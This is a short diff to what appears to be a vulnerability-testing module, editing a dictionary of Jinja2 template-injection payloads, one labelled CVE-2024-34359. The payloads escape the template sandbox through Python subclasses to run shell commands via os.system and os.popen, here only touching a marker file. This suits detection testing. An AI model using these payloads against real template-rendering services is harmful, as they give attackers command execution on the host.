@@ -367,7 +367,7 @@ PAYLOADS = {
         "{{ c()._module.__builtins__['__import__']('os').system('touch MARKER') }}{% endif %}{% endfor %}"
     ),
     "CVE-2024-34359": (
-        "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
+        "{% for x in ().__class__.__base__.__subclasses__() %}{% if x.__name__ == \"catch_warnings\" %}"
         "{{ x()._module.__builtins__['__import__']('os').popen(\"touch MARKER\").read() }}{%endif%}{% endfor %}"
     ),
 }
